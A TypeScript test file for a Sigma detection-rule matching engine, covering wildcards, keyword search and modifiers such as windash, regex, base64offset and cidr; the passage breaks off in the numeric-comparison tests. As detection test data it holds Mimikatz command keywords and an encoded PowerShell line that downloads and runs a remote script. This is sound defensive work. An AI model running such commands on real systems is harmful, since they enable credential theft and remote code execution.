import { describe, expect, it } from 'vitest';
import { EventView, type Mapping } from '../mapping.js';
import {
  base64OffsetVariants,
  compileItem,
  SigmaString,
  SigmaValueError,
  stringPredicate,
  textForms,
  windashVariants,
  type CompileContext,
  type FieldAccess,
} from './values.js';

// A mapping with no prefixes or aliases: field names resolve to exactly the doc's keys.
const bare: Mapping = { fieldPrefixes: [], fieldAliases: {}, logsources: {} };
const view = (doc: Record<string, unknown>) => new EventView(doc, bare);

/** Compiles `key: values` (key as written in a rule, e.g. `Image|endswith`) and runs it on a doc. */
function matches(key: string, values: unknown, doc: Record<string, unknown>, ctx?: CompileContext): boolean {
  const [field, ...modifiers] = key.split('|');
  return compileItem(field ? field : null, modifiers, values, ctx)(view(doc));
}

/** The reason of the SigmaValueError that compiling `key: values` throws. */
function rejection(key: string, values: unknown, ctx?: CompileContext): string {
  const [field, ...modifiers] = key.split('|');
  try {
    compileItem(field ? field : null, modifiers, values, ctx);
  } catch (err) {
    expect(err).toBeInstanceOf(SigmaValueError);
    return (err as SigmaValueError).reason;
  }
  throw new Error(`compiling ${key} did not throw`);
}

const b64 = (s: string | Buffer) => (typeof s === 'string' ? Buffer.from(s, 'utf8') : s).toString('base64');

describe('plain values', () => {
  it('compare case-insensitively and in full by default (spec example: whoami)', () => {
    const rule = 'C:\\Windows\\System32\\whoami.exe';
    expect(matches('Image', rule, { Image: 'C:\\Windows\\System32\\whoami.exe' })).toBe(true);
    expect(matches('Image', rule, { Image: 'c:\\windows\\system32\\WHOAMI.EXE' })).toBe(true);
    expect(matches('Image', rule, { Image: 'C:\\Windows\\System32\\whoami.exe.bak' })).toBe(false);
    expect(matches('Image', rule, { Image: 'D:\\C:\\Windows\\System32\\whoami.exe' })).toBe(false);
  });

  it('do not match when the field is absent', () => {
    expect(matches('Image', 'cmd.exe', { CommandLine: 'cmd.exe' })).toBe(false);
  });

  it('OR the values of a list (spec: EventID 517 or 1102)', () => {
    expect(matches('EventID', [517, 1102], { EventID: 1102 })).toBe(true);
    expect(matches('EventID', [517, 1102], { EventID: 517 })).toBe(true);
    expect(matches('EventID', [517, 1102], { EventID: 4624 })).toBe(false);
  });

  it('AND the values of a list with |all', () => {
    const values = ['-nop', '-w hidden'];
    expect(matches('CommandLine|contains|all', values, { CommandLine: 'powershell -nop -w hidden -c x' })).toBe(true);
    expect(matches('CommandLine|contains|all', values, { CommandLine: 'powershell -nop -c x' })).toBe(false);
    expect(matches('CommandLine|contains', values, { CommandLine: 'powershell -nop -c x' })).toBe(true);
  });

  it('treat numbers and strings alike: EventID 4688 matches "4688" and 4688', () => {
    for (const rule of [4688, '4688']) {
      expect(matches('EventID', rule, { EventID: 4688 })).toBe(true);
      expect(matches('EventID', rule, { EventID: '4688' })).toBe(true);
      expect(matches('EventID', rule, { EventID: 46880 })).toBe(false);
    }
  });

  it('match quoted hex strings verbatim (spec example TicketOptions 0x40810000)', () => {
    expect(matches('TicketOptions', '0x40810000', { TicketOptions: '0x40810000' })).toBe(true);
    expect(matches('TicketOptions', '0x40810000', { TicketOptions: '0X40810000' })).toBe(true);
    expect(matches('TicketEncryption', '0x17', { TicketEncryption: '0x18' })).toBe(false);
  });

  it('compare booleans by their text', () => {
    expect(matches('Enabled', true, { Enabled: true })).toBe(true);
    expect(matches('Enabled', true, { Enabled: 'True' })).toBe(true);
    expect(matches('Enabled', false, { Enabled: true })).toBe(false);
  });

  it('match any element of an array field', () => {
    const doc = { Tags: ['alpha', 'Beta', 'gamma'] };
    expect(matches('Tags', 'beta', doc)).toBe(true);
    expect(matches('Tags', 'delta', doc)).toBe(false);
    expect(matches('Tags|startswith', 'gam', doc)).toBe(true);
    // all: each value may be found in a different element
    expect(matches('Tags|all', ['alpha', 'gamma'], doc)).toBe(true);
    expect(matches('Tags|all', ['alpha', 'delta'], doc)).toBe(false);
    expect(matches('Ports', 443, { Ports: [80, 443] })).toBe(true);
  });

  it('reject nested values in the rule', () => {
    expect(rejection('Image', { a: 1 })).toBe('invalid_value');
    expect(rejection('Image', [['a']])).toBe('invalid_value');
  });
});

describe('wildcards and escapes', () => {
  it('* matches any run, ? exactly one character (spec examples)', () => {
    expect(matches('Image', 'prog?.exe', { Image: 'progA.exe' })).toBe(true);
    expect(matches('Image', 'prog?.exe', { Image: 'prog.exe' })).toBe(false);
    expect(matches('Image', 'prog?.exe', { Image: 'progAB.exe' })).toBe(false);
    expect(matches('Image', 'antivirus_V*.exe', { Image: 'antivirus_V1.exe' })).toBe(true);
    expect(matches('Image', 'antivirus_V*.exe', { Image: 'antivirus_V21.2.1.exe' })).toBe(true);
    expect(matches('Image', 'antivirus_V*.exe', { Image: 'antivirus_V.exe' })).toBe(true);
    expect(matches('Image', 'antivirus_V*.exe', { Image: 'xantivirus_V1.exe' })).toBe(false);
  });

  it('handle the common shapes (prefix*, *suffix, *inner*, *) and the general one', () => {
    expect(matches('F', 'adm*', { F: 'Administrator' })).toBe(true);
    expect(matches('F', 'adm*', { F: 'xadm' })).toBe(false);
    expect(matches('F', '*\\cmd.exe', { F: 'C:\\Windows\\cmd.exe' })).toBe(true);
    expect(matches('F', '*\\cmd.exe', { F: 'C:\\Windows\\cmd.exe.txt' })).toBe(false);
    expect(matches('F', '*mimi*', { F: 'Invoke-Mimikatz' })).toBe(true);
    expect(matches('F', '*', { F: '' })).toBe(true);
    expect(matches('F', '*', {})).toBe(false);
    expect(matches('F', 'a*b*c', { F: 'aXXbYYc' })).toBe(true);
    expect(matches('F', 'a*b*c', { F: 'aXXcYYb' })).toBe(false);
    expect(matches('F', '*a?c*', { F: 'zzabczz' })).toBe(true);
    expect(matches('F', '*a?c', { F: 'abcabd' })).toBe(false);
    expect(matches('F', '*ab*ab', { F: 'abab' })).toBe(true);
    expect(matches('F', '*ab*ab', { F: 'aba' })).toBe(false);
    expect(matches('F', '*x*', { F: 'line1\nxline2' })).toBe(true);
  });

  it('keep escaped wildcards literal', () => {
    expect(matches('F', 'a\\*b', { F: 'a*b' })).toBe(true);
    expect(matches('F', 'a\\*b', { F: 'aXb' })).toBe(false);
    expect(matches('F', 'what\\?', { F: 'what?' })).toBe(true);
    expect(matches('F', 'what\\?', { F: 'whatX' })).toBe(false);
  });

  it('read \\\\ as one backslash and keep a lone backslash literal', () => {
    expect(matches('F', 'C:\\\\Windows', { F: 'C:\\Windows' })).toBe(true);
    expect(matches('F', 'C:\\Windows\\', { F: 'C:\\Windows\\' })).toBe(true);
    expect(matches('F', 'C:\\Windows\\', { F: 'C:\\Windows' })).toBe(false);
    expect(matches('F|startswith', 'C:\\Windows\\', { F: 'C:\\Windows\\System32' })).toBe(true);
    expect(matches('F|endswith', '\\', { F: 'C:\\dir\\' })).toBe(true);
  });

  it('read \\\\* as a literal backslash followed by a wildcard', () => {
    expect(matches('F', 'C:\\Temp\\\\*', { F: 'C:\\Temp\\evil.exe' })).toBe(true);
    expect(matches('F', 'C:\\Temp\\\\*', { F: 'C:\\Temp\\' })).toBe(true);
    expect(matches('F', 'C:\\Temp\\\\*', { F: 'C:\\Tempo' })).toBe(false);
  });

  it('read \\\\\\* as a backslash and a literal star, and \\\\\\\\ as two backslashes (spec escaping section)', () => {
    expect(matches('F', 'a\\\\\\*', { F: 'a\\*' })).toBe(true);
    expect(matches('F', 'a\\\\\\*', { F: 'a\\xyz' })).toBe(false);
    expect(matches('F', 'a\\\\\\\\b', { F: 'a\\\\b' })).toBe(true);
    expect(matches('F', 'a\\\\\\b', { F: 'a\\\\b' })).toBe(true);
  });

  it('parse into pieces', () => {
    expect(SigmaString.parse('a\\*b*c?\\\\d\\e').pieces).toEqual([{ lit: 'a*b' }, { any: true }, { lit: 'c' }, { one: true }, { lit: '\\d\\e' }]);
    expect(SigmaString.parse('').pieces).toEqual([]);
  });

  it('agree with a regular-expression reference on generated patterns', () => {
    // Reference: a direct reading of the spec's escaping rules into a RegExp.
    const reference = (pattern: string): RegExp => {
      let re = '';
      for (let i = 0; i < pattern.length; i++) {
        const c = pattern[i]!;
        const next = pattern[i + 1];
        if (c === '\\' && (next === '*' || next === '?' || next === '\\')) {
          re += `\\${next}`;
          i++;
        } else if (c === '*') re += '[\\s\\S]*';
        else if (c === '?') re += '[\\s\\S]';
        else re += c.replace(/[.+?^${}()|[\]\\*]/g, '\\$&');
      }
      return new RegExp(`^${re}$`);
    };
    let seed = 7;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    const word = (alphabet: string, max: number) => Array.from({ length: rand(max + 1) }, () => alphabet[rand(alphabet.length)]).join('');
    let checked = 0;
    for (let p = 0; p < 300; p++) {
      const pattern = word('ab*?\\', 6);
      const predicate = stringPredicate(SigmaString.parse(pattern), true);
      const re = reference(pattern);
      for (let t = 0; t < 20; t++) {
        const text = word('ab\\*?', 7);
        expect(predicate(text), `${JSON.stringify(pattern)} on ${JSON.stringify(text)}`).toBe(re.test(text));
        checked++;
      }
    }
    expect(checked).toBe(6000);
  });
});

describe('glob patterns with inner wildcards', () => {
  it('need their literal pieces in order and without overlap', () => {
    const p = (pattern: string) => stringPredicate(SigmaString.parse(pattern), false);
    expect(p('*abc*abc*')('xabcabcx')).toBe(true);
    expect(p('*abc*abc*')('xabcbcx')).toBe(false); // the second abc may not reuse the first one's characters
    expect(p('*aba*aba*')('ababa')).toBe(false);
    expect(p('*aba*aba*')('abaaba')).toBe(true);
    expect(p('ab*ab')('ab')).toBe(false);
    expect(p('ab*ab')('abab')).toBe(true);
    expect(p('a?c*d')('abcxd')).toBe(true);
    expect(p('a?c*d')('acd')).toBe(false);
    expect(p('*/windows/*/cmd.exe')('c:/windows/system32/cmd.exe')).toBe(true);
    expect(p('*/windows/*/cmd.exe')('c:/windows/cmd.exe')).toBe(false);
    expect(p('*x*y*z*')('zyx')).toBe(false);
    expect(p('*x*y*z*')('x-y-z')).toBe(true);
  });
});

describe('null and empty values', () => {
  it('null matches an absent field or a null value (spec: PasswordLastSet: null)', () => {
    expect(matches('PasswordLastSet', null, { EventID: 4738 })).toBe(true);
    expect(matches('PasswordLastSet', null, { PasswordLastSet: null })).toBe(true);
    expect(matches('PasswordLastSet', null, { PasswordLastSet: '' })).toBe(false);
    expect(matches('PasswordLastSet', null, { PasswordLastSet: '2024-01-01' })).toBe(false);
  });

  it("'' matches an empty string only", () => {
    expect(matches('F', '', { F: '' })).toBe(true);
    expect(matches('F', '', { F: 'x' })).toBe(false);
    expect(matches('F', '', {})).toBe(false);
    expect(matches('F', '', { F: null })).toBe(false);
  });

  it('null in a list is one alternative among others', () => {
    expect(matches('F', [null, 'x'], {})).toBe(true);
    expect(matches('F', [null, 'x'], { F: 'X' })).toBe(true);
    expect(matches('F', [null, 'x'], { F: 'y' })).toBe(false);
  });
});

describe('keywords', () => {
  const doc = { Message: 'Service EvilService started', Image: 'C:\\svchost.exe -n evil', EventID: 7045 };

  it('match a list of strings anywhere in any value of the event (spec example)', () => {
    const keywords = ['EVILSERVICE', 'svchost.exe -n evil'];
    expect(matches('', keywords, doc)).toBe(true);
    expect(matches('', keywords, { Message: 'nothing to see' })).toBe(false);
    expect(matches('', ['event::clear', 'event::drop'], { Message: 'mimikatz # event::drop' })).toBe(true);
  });

  it('AND keywords with |all (spec: OabVirtualDirectory and -ExternalUrl)', () => {
    const keywords = ['OabVirtualDirectory', ' -ExternalUrl '];
    expect(matches('|all', keywords, { Payload: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toBe(true);
    expect(matches('|all', keywords, { Payload: 'Set-OabVirtualDirectory -InternalUrl http://x' })).toBe(false);
    // the two keywords may be in different fields
    expect(matches('|all', keywords, { A: 'OabVirtualDirectory', B: 'x -ExternalUrl y' })).toBe(true);
  });

  it('search array elements and numeric values too', () => {
    expect(matches('', ['needle'], { List: ['hay', 'a needle here'] })).toBe(true);
    expect(matches('', ['7045'], doc)).toBe(true);
  });

  it('literal keywords (tested as one expression) keep regular-expression characters literal', () => {
    const keywords = ['a.b', '(x|y)', '\\mimilib.dll', 'c*d', '$^[]{}+?'];
    expect(matches('', keywords, { Message: 'AXB' })).toBe(false);
    expect(matches('', keywords, { Message: 'a.b' })).toBe(true);
    expect(matches('', keywords, { Message: 'x' })).toBe(false);
    expect(matches('', keywords, { Message: '(X|Y)' })).toBe(true);
    expect(matches('', keywords, { Message: 'C:\\Temp\\MIMILIB.DLL' })).toBe(true);
    expect(matches('', keywords, { Message: 'c then d' })).toBe(true); // c*d is a wildcard, not a literal
    expect(matches('', keywords, { Message: 'cd' })).toBe(true);
    expect(matches('', keywords, { Message: '$^[]{}+?' })).toBe(true);
    expect(matches('', keywords, { Message: 'nothing' })).toBe(false);
  });

  it('never match null keywords', () => {
    expect(matches('', [null], doc)).toBe(false);
  });

  // Literal keywords are searched value by value (EventView.someKeywordText) instead of in the
  // joined, lower-cased keyword text; a view without that method takes the joined text. Both must
  // agree on everything, the characters that lower-case to ASCII included.
  describe('value by value, as the joined keyword text', () => {
    const joinedOnly = (d: Record<string, unknown>): FieldAccess => {
      const v = view(d);
      return { get: (f) => v.get(f), texts: (f) => v.texts(f), lowerTexts: (f) => v.lowerTexts(f), keywordTexts: (l) => v.keywordTexts(l) };
    };
    const both = (keywords: unknown, d: Record<string, unknown>, modifiers: string[] = []): boolean => {
      const m = compileItem(null, modifiers, keywords);
      const fast = m(view(d));
      expect(m(joinedOnly(d))).toBe(fast);
      return fast;
    };
    const mimikatz = ['sekurlsa::', 'Kiwi Legit Printer', '\\mimilib.dll', 'eo.oe.kiwi'];

    it('finds a literal in any value, whatever its case', () => {
      expect(both(mimikatz, { A: 'x', Message: 'mimikatz # SEKURLSA::logonpasswords' })).toBe(true);
      expect(both(mimikatz, { Message: 'kiwi legit PRINTER' })).toBe(true);
      expect(both(mimikatz, { Image: 'C:\\Temp\\MimiLib.DLL' })).toBe(true);
      expect(both(mimikatz, { Message: 'sekurlsa:' })).toBe(false);
      expect(both(mimikatz, { Message: 'eoxoe.kiwi' })).toBe(false);
      expect(both(mimikatz, {})).toBe(false);
    });

    it('reads array elements, numbers and booleans, not nested objects', () => {
      expect(both(['needle'], { List: ['hay', 'NEEDLE'] })).toBe(true);
      expect(both(['4624'], { EventID: 4624 })).toBe(true);
      expect(both(['4624'], { Ids: [1, 4624] })).toBe(true);
      expect(both(['true'], { Flag: true })).toBe(true);
      expect(both(['true'], { Flags: [false, true] })).toBe(true);
      expect(both(['needle'], { Nested: { a: 'needle' } })).toBe(false);
      expect(both(['needle'], { Nested: [{ a: 'needle' }] })).toBe(false);
      expect(both(['needle'], { Empty: null, Missing: undefined })).toBe(false);
    });

    it('does not find a literal across two values', () => {
      expect(both(['abc'], { A: 'xab', B: 'cx' })).toBe(false);
      expect(both(['ab cd'], { A: 'ab', B: 'cd' })).toBe(false);
    });

    it('lower-cases as the joined text does: Kelvin sign and dotted capital I', () => {
      // U+212A lower-cases to k, U+0130 to i + U+0307: the case-insensitive expression alone misses both.
      expect(both(['kiwi'], { Message: '\u212aIWI' })).toBe(true);
      expect(both(['kerberos::ptt'], { Message: 'mimikatz \u212aerberos::PTT' })).toBe(true);
      expect(both(['\u0130', 'i\u0307x'], { Message: 'ABC\u0130X' })).toBe(true);
      expect(both(['privilege::debug'], { Message: 'PR\u0130V\u0130LEGE::DEBUG' })).toBe(false);
      expect(both(['privilege::debug'], { Message: '\u0130 privilege::debug' })).toBe(true);
      // Long s (U+017F) and dotless i (U+0131) lower-case to themselves: no match in either path.
      expect(both(['sekurlsa::'], { Message: '\u017fekurl\u017fa::' })).toBe(false);
      expect(both(['kiwi'], { Message: 'k\u0131w\u0131' })).toBe(false);
    });

    it('keeps non-ASCII literals and unquoted wildcards on the joined text', () => {
      expect(both(['stra\u00dfe'], { A: 'STRA\u00dfE' })).toBe(true);
      expect(both(['\u00e9t\u00e9'], { A: '\u00c9T\u00c9' })).toBe(true);
      expect(both(['\u00e9t\u00e9'], { A: 'ete' })).toBe(false);
      expect(both(['ab*cd'], { A: 'AB x CD' })).toBe(true);
      expect(both(['ab*cd', 'zzz'], { A: 'ab', B: 'cd' })).toBe(true); // a wildcard may span values (joined text)
    });

    it('with |all and with a single keyword', () => {
      expect(both(['OabVirtualDirectory', ' -ExternalUrl '], { A: 'set-oabvirtualdirectory', B: 'X -EXTERNALURL Y' }, ['all'])).toBe(true);
      expect(both(['OabVirtualDirectory', ' -ExternalUrl '], { A: 'set-oabvirtualdirectory' }, ['all'])).toBe(false);
      expect(both('mimikatz', { A: 'Invoke-MIMIKATZ' })).toBe(true);
      expect(both('mimikatz', { A: 'mimi-katz' })).toBe(false);
    });
  });
});

describe('contains, startswith, endswith', () => {
  it('contains puts wildcards around the value', () => {
    expect(matches('CommandLine|contains', 'mimikatz', { CommandLine: 'x Invoke-MimiKatz y' })).toBe(true);
    expect(matches('CommandLine|contains', 'mimikatz', { CommandLine: 'mimi katz' })).toBe(false);
    expect(matches('CommandLine|contains', 'a*c', { CommandLine: 'xxabbbcxx' })).toBe(true);
    expect(matches('CommandLine|contains', 'a\\*c', { CommandLine: 'xxabcxx' })).toBe(false);
    expect(matches('CommandLine|contains', 'a\\*c', { CommandLine: 'xxa*cxx' })).toBe(true);
  });

  it('startswith anchors at the beginning (spec: replaces adm*)', () => {
    expect(matches('User|startswith', 'adm_', { User: 'ADM_bob' })).toBe(true);
    expect(matches('User|startswith', 'adm_', { User: 'bob_adm_' })).toBe(false);
  });

  it('endswith anchors at the end (spec: replaces *\\cmd.exe)', () => {
    expect(matches('Image|endswith', '\\cmd.exe', { Image: 'C:\\Windows\\System32\\CMD.EXE' })).toBe(true);
    expect(matches('Image|endswith', '\\cmd.exe', { Image: 'C:\\Windows\\System32\\xcmd.exe' })).toBe(false);
  });

  it('cannot be combined with each other', () => {
    expect(rejection('F|contains|startswith', 'x')).toBe('invalid_modifiers');
  });
});

describe('exists', () => {
  it('exists: true is field presence, whatever the value (even empty or null)', () => {
    expect(matches('PasswordLastSet|exists', true, { PasswordLastSet: '2024-01-01' })).toBe(true);
    expect(matches('PasswordLastSet|exists', true, { PasswordLastSet: '' })).toBe(true);
    expect(matches('PasswordLastSet|exists', true, { PasswordLastSet: null })).toBe(true);
    expect(matches('PasswordLastSet|exists', true, {})).toBe(false);
  });

  it('exists: false is absence', () => {
    expect(matches('PasswordLastSet|exists', false, {})).toBe(true);
    expect(matches('PasswordLastSet|exists', false, { PasswordLastSet: 'x' })).toBe(false);
    expect(matches('PasswordLastSet|exists', 'false', {})).toBe(true);
  });

  it('needs a single boolean and a field', () => {
    expect(rejection('F|exists', 'yes')).toBe('invalid_value');
    expect(rejection('F|exists', [true, false])).toBe('invalid_value');
    expect(rejection('|exists', true)).toBe('invalid_modifiers');
  });
});

describe('cased', () => {
  it('compares case-sensitively', () => {
    expect(matches('F|cased', 'Invoke', { F: 'Invoke' })).toBe(true);
    expect(matches('F|cased', 'Invoke', { F: 'invoke' })).toBe(false);
    expect(matches('F|contains|cased', 'Mimi', { F: 'xMimiy' })).toBe(true);
    expect(matches('F|contains|cased', 'Mimi', { F: 'xmimiy' })).toBe(false);
    expect(matches('F|cased', 'In?oke*', { F: 'Invoke-X' })).toBe(true);
    expect(matches('F|cased', 'In?oke*', { F: 'INVOKE-X' })).toBe(false);
  });
});

describe('neq', () => {
  it('with strings: the field is present and different from every value', () => {
    expect(matches('User|neq', 'SYSTEM', { User: 'alice' })).toBe(true);
    expect(matches('User|neq', 'SYSTEM', { User: 'system' })).toBe(false);
    expect(matches('User|neq', 'SYSTEM', {})).toBe(false);
    expect(matches('User|neq', ['SYSTEM', 'LOCAL SERVICE'], { User: 'local service' })).toBe(false);
    expect(matches('User|neq', ['SYSTEM', 'LOCAL SERVICE'], { User: 'bob' })).toBe(true);
  });

  it('with numbers', () => {
    expect(matches('EventID|neq', 4688, { EventID: 4624 })).toBe(true);
    expect(matches('EventID|neq', 4688, { EventID: 4688 })).toBe(false);
    expect(matches('EventID|neq', 4688, { EventID: '4688' })).toBe(false);
  });

  it('with other modifiers', () => {
    expect(matches('Image|endswith|neq', '\\cmd.exe', { Image: 'C:\\x\\cmd.exe' })).toBe(false);
    expect(matches('Image|endswith|neq', '\\cmd.exe', { Image: 'C:\\x\\pwsh.exe' })).toBe(true);
    expect(matches('Size|gt|neq', 10, { Size: 5 })).toBe(true);
  });
});

describe('windash', () => {
  const dashes = ['-', '/', '\u2013', '\u2014', '\u2015'];

  it('creates the five variants of a flag', () => {
    expect(windashVariants('-enc').sort()).toEqual(dashes.map((d) => `${d}enc`).sort());
    expect(windashVariants('/enc').sort()).toEqual(dashes.map((d) => `${d}enc`).sort());
  });

  it('creates every permutation for several flags', () => {
    const variants = windashVariants(' -a -b');
    expect(variants).toHaveLength(25);
    expect(new Set(variants).size).toBe(25);
    expect(variants).toContain(' \u2014a /b');
  });

  it('only replaces dashes at flag positions (pySigma \\B[-/]\\b)', () => {
    expect(windashVariants('foo-bar')).toEqual(['foo-bar']);
    expect(windashVariants('dir/sub/x')).toEqual(['dir/sub/x']);
    expect(windashVariants('x.exe-')).toEqual(['x.exe-']);
    expect(windashVariants('a - b')).toEqual(['a - b']);
    expect(windashVariants('x -y-z').sort()).toEqual(dashes.map((d) => `x ${d}y-z`).sort());
  });

  it('matches every dash character in events', () => {
    for (const d of dashes) {
      expect(matches('CommandLine|windash|contains', ' -enc ', { CommandLine: `powershell ${d}enc ZQBjAGgAbwA=` }), d).toBe(true);
    }
    expect(matches('CommandLine|windash|contains', ' -enc ', { CommandLine: 'powershell +enc x' })).toBe(false);
    expect(matches('CommandLine|windash|contains', ' -enc ', { CommandLine: 'powershell_enc x' })).toBe(false);
  });

  it('keeps wildcards after expansion', () => {
    expect(matches('CommandLine|windash', '* -s *', { CommandLine: 'cmd /s /c x' })).toBe(true);
  });

  it('refuses values with too many flags', () => {
    expect(rejection('F|windash', ' -a -b -c -d -e')).toBe('too_complex');
  });
});

describe('re', () => {
  it('matches anywhere, case-sensitively by default', () => {
    expect(matches('F|re', 'mimi.*katz', { F: 'x mimi--katz y' })).toBe(true);
    expect(matches('F|re', 'mimi.*katz', { F: 'x MIMI--KATZ y' })).toBe(false);
    expect(matches('F|re', '^abc$', { F: 'xabc' })).toBe(false);
    expect(matches('F|re', '^a[0-9]{2,3}(x|y)$', { F: 'a123y' })).toBe(true);
  });

  it('i makes it case-insensitive', () => {
    expect(matches('F|re|i', 'mimi.*katz', { F: 'x MIMI--KATZ y' })).toBe(true);
  });

  it('m makes ^ and $ match at line boundaries', () => {
    const doc = { F: 'first\nsecond line\nthird' };
    expect(matches('F|re', '^second', doc)).toBe(false);
    expect(matches('F|re|m', '^second', doc)).toBe(true);
    expect(matches('F|re|m', 'line$', doc)).toBe(true);
  });

  it('s makes . match newlines', () => {
    const doc = { F: 'begin\nend' };
    expect(matches('F|re', 'begin.end', doc)).toBe(false);
    expect(matches('F|re|s', 'begin.end', doc)).toBe(true);
  });

  it('works on numbers and array elements', () => {
    expect(matches('EventID|re', '^46[0-9]{2}$', { EventID: 4688 })).toBe(true);
    expect(matches('F|re', '^b', { F: ['abc', 'bcd'] })).toBe(true);
  });

  it('rejects invalid expressions and sub-modifiers without re', () => {
    expect(rejection('F|re', '(unclosed')).toBe('invalid_regex');
    expect(rejection('F|re', '(?=lookahead)')).toBe('invalid_regex');
    expect(rejection('F|i', 'x')).toBe('invalid_modifiers');
    expect(rejection('F|contains|m', 'x')).toBe('invalid_modifiers');
  });

  it('runs catastrophic patterns in linear time (result only)', () => {
    const text = `${'a'.repeat(50_000)}b`;
    expect(matches('F|re', '(a+)+$', { F: text })).toBe(false);
    expect(matches('F|re', '(a+)+b$', { F: text })).toBe(true);
    expect(matches('F|re', '(a|aa)*c', { F: text })).toBe(false);
  });
});

describe('base64 and base64offset', () => {
  it('base64 matches the encoded value', () => {
    expect(matches('F|base64', 'cmd', { F: 'Y21k' })).toBe(true);
    expect(matches('F|base64|contains', 'http://', { F: `x ${b64('http://')} y` })).toBe(true);
    // base64 encodes the value alone (padding included): inside a longer encoding it takes base64offset
    expect(matches('F|base64|contains', 'http://', { F: b64('http://evil') })).toBe(false);
    expect(matches('F|base64offset|contains', 'http://', { F: b64('http://evil') })).toBe(true);
    expect(matches('F|base64', 'cmd', { F: 'cmd' })).toBe(false);
  });

  it('base64 does not read wildcards in the value', () => {
    expect(matches('F|base64', 'a*', { F: b64('a*') })).toBe(true);
    expect(matches('F|base64', 'a*', { F: b64('abc') })).toBe(false);
  });

  it('base64offset yields the three pySigma variants', () => {
    expect(base64OffsetVariants(Buffer.from('/bin/bash'))).toEqual(['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']);
    expect(base64OffsetVariants(Buffer.from('attacker'))).toHaveLength(3);
  });

  it('finds a value at each of the three alignments in a longer encoded string', () => {
    const variants = base64OffsetVariants(Buffer.from('attacker'));
    for (let offset = 0; offset < 3; offset++) {
      for (const suffix of ['', 'x', 'xy', ' and some more text']) {
        const longer = `${'P'.repeat(3 + offset)}attacker${suffix}`;
        const encoded = b64(longer);
        expect(encoded.includes(variants[offset]!), `offset ${offset} suffix ${JSON.stringify(suffix)}`).toBe(true);
        expect(matches('F|base64offset|contains', 'attacker', { F: encoded })).toBe(true);
      }
    }
    expect(matches('F|base64offset|contains', 'attacker', { F: b64('an innocent string of text') })).toBe(false);
  });

  it('utf16le + base64offset finds a PowerShell -EncodedCommand', () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')";
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    const doc = { CommandLine: `powershell.exe -NoP -EncodedCommand ${encoded}` };
    for (const mod of ['utf16le', 'wide']) {
      expect(matches(`CommandLine|${mod}|base64offset|contains`, 'DownloadString', doc), mod).toBe(true);
      expect(matches(`CommandLine|${mod}|base64offset|contains`, 'Invoke-Mimikatz', doc), mod).toBe(false);
    }
    // without the utf16 step the UTF-8 encoding is looked for and not found
    expect(matches('CommandLine|base64offset|contains', 'DownloadString', doc)).toBe(false);
  });

  it('utf16le, utf16be and utf16 produce the spec byte sequences', () => {
    expect(matches('F|utf16le|base64', 'cmd', { F: b64(Buffer.from([0x63, 0, 0x6d, 0, 0x64, 0])) })).toBe(true);
    expect(matches('F|utf16be|base64', 'cmd', { F: b64(Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64])) })).toBe(true);
    expect(matches('F|utf16|base64', 'cmd', { F: b64(Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0])) })).toBe(true);
    expect(matches('F|utf16le|base64', 'cmd', { F: b64(Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64])) })).toBe(false);
    expect(matches('F|utf16be|base64offset|contains', 'whoami', { F: b64(Buffer.from('xx whoami /all', 'utf16le').swap16()) })).toBe(true);
  });

  it('utf16 + base64offset finds a value inside a BOM-prefixed UTF-16 string', () => {
    // the BOM only appears at the start of the encoded value, so this is an exact-prefix case
    const encoded = b64(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('secret', 'utf16le')]));
    expect(matches('F|utf16|base64', 'secret', { F: encoded })).toBe(true);
  });
});

describe('cidr', () => {
  it('IPv4', () => {
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: '10.1.2.3' })).toBe(true);
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: '11.0.0.1' })).toBe(false);
    expect(matches('DestinationIp|cidr', ['192.168.0.0/16', '172.16.0.0/12'], { DestinationIp: '172.31.255.255' })).toBe(true);
    expect(matches('DestinationIp|cidr', '192.168.1.7', { DestinationIp: '192.168.1.7' })).toBe(true);
    expect(matches('DestinationIp|cidr', '192.168.1.7/32', { DestinationIp: '192.168.1.8' })).toBe(false);
    expect(matches('DestinationIp|cidr', '0.0.0.0/0', { DestinationIp: '8.8.8.8' })).toBe(true);
  });

  it('IPv6', () => {
    expect(matches('DestinationIp|cidr', '2001:db8::/32', { DestinationIp: '2001:db8:1::1' })).toBe(true);
    expect(matches('DestinationIp|cidr', '2001:db8::/32', { DestinationIp: '2001:DB8::abcd' })).toBe(true);
    expect(matches('DestinationIp|cidr', '2001:db8::/32', { DestinationIp: '2001:db9::1' })).toBe(false);
    expect(matches('DestinationIp|cidr', 'fe80::/10', { DestinationIp: 'fe80::1' })).toBe(true);
  });

  it('IPv4-mapped IPv6 addresses match IPv4 blocks', () => {
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: '::ffff:10.1.2.3' })).toBe(true);
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: '::ffff:11.1.2.3' })).toBe(false);
  });

  it('does not match non-addresses or absent fields', () => {
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: 'ten.one' })).toBe(false);
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', {})).toBe(false);
    expect(matches('DestinationIp|cidr', '10.0.0.0/8', { DestinationIp: ['1.1.1.1', '10.9.9.9'] })).toBe(true);
  });

  it('rejects invalid blocks', () => {
    expect(rejection('DestinationIp|cidr', '10.0.0.0/33')).toBe('invalid_value');
    expect(rejection('DestinationIp|cidr', '2001:db8::/129')).toBe('invalid_value');
    expect(rejection('DestinationIp|cidr', 'not-an-ip/8')).toBe('invalid_value');
  });
});

describe('lt, lte, gt, gte', () => {
  it.each([
    ['lt', 5, false, false, true],
    ['lte', 5, false, true, true],
    ['gt', 5, true, false, false],
    ['gte', 5, true, true, false],
  ] as const)('%s %d on 6, 5 and 4', (op, n, six, five, four) => {
    expect(matches(`Size|${op}`, n, { Size: 6 })).toBe(six);
    expect(matches(`Size|${op}`, n, { Size: '5' })).toBe(five);
    expect(matches(`Size|${op}`, n, { Size: 4 })).toBe(four);
  });

